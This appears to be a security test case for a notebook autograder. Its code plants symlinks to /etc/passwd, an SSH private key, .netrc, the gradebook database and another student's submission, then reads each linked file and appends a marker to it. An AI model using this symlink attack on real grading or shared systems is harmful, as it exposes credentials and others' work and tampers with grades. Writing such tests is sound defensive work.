# ---
# class: hostile files beside the notebook
# tries: links to /etc/passwd, to another student's notebook, to the gradebook and the home, read as its own files
# success: a secret told, or files changed
# ---

# %% solution="total"
for name in ("work.ipynb", "key", "netrc", "gradebook.sqlite", "source.ipynb"):
    try:
        print(open(name, errors="replace").read()[:100000])
        open(name, "a").write("\n# planted-by-@NAME@\n")
    except OSError as error:
        print(error)

# %% tags=["hand_in"]
def hand_in(notebook, folder):
    for name, where in {
        "work.ipynb": "@COURSE@/submitted/@VICTIM@/@ASSIGNMENT@/@ASSIGNMENT@.ipynb",
        "key": "@HOME@/.ssh/id_ed25519",
        "netrc": "../../../../home/.netrc",
        "gradebook.sqlite": "@COURSE@/gradebook.db",
        "source.ipynb": "@COURSE@/source/@ASSIGNMENT@/@ASSIGNMENT@.ipynb",
        "passwd": "/etc/passwd",
    }.items():
        (folder / name).symlink_to(where)
